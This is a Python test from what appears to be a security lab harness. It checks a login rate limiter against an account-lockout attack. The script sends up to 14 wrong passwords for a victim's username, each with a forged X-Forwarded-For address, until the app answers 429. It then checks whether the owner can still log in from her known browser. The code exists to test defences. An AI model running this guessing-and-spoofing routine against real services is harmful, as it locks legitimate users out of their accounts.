"""Locking the owner out: enough wrong passwords at her name that she can't log in.

The attacker doesn't want in; they want Alice out. They send wrong
passwords for "alice", each with a forged X-Forwarded-For, until the app
answers 429. Then Alice logs in from the browser she has used before,
with her right password. Limits that count only addresses and names lock
her out with everybody else; limits that know her browser let her in.
"""
import lab

WEAK = "patch"          # this step without the known-browser exemption (weak_owner_lockout.patch)
MAX_REQUESTS = 20       # 1 registration, 3 for Alice, at most 14 guesses
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt (N=2^17) and a laptop may be busy
OWN_SERVERS = True      # it fills the rate-limit counters: no other attack may share them

VICTIM = {"username": "alice", "email": "alice@example.com", "password": "violet harbour lantern 88"}
WRONG = "not her password at all"
MAX_GUESSES = 14


def attack(target):
    target.verified_user(**VICTIM)
    owner = target.client("alice's browser")
    login = {"username": VICTIM["username"], "password": VICTIM["password"]}
    first = owner.post("/auth/login", json=login)  # from now on, this browser is known for alice
    if first.status != 200:
        raise lab.Missing(f"alice's own first login answered {first.status}: her browser can't become known")
    owner.post("/auth/logout")
    guesses = guess_until_refused(target)
    if guesses[-1].status != 429:  # nothing to lock anyone out with: that is the missing defence
        raise lab.Missing(f"{len(guesses)} wrong guesses and no 429: this app has no login limits yet")
    again = owner.post("/auth/login", json=login)
    evidence = [f"the attacker: {len(guesses)} wrong guesses from {len(guesses)} forged addresses, "
                f"the last answered {guesses[-1].status}",
                f"then alice, from her own browser, with her right password: {again.status} "
                + (repr(again.json.get("error")) if again.status != 200 else "logged in")]
    if again.status not in (200, 429):
        raise lab.Missing(f"alice's login after the attack answered {again.status}, not 200 nor 429")
    return lab.Outcome(got_through=again.status == 429, evidence=evidence)


def guess_until_refused(target):
    answers = []
    for number in range(1, MAX_GUESSES + 1):
        attacker = target.client(f"attacker {number}", address=f"198.51.100.{number}")
        answers.append(attacker.post("/auth/login", json={"username": VICTIM["username"], "password": WRONG}))
        if answers[-1].status == 429:
            break
    return answers
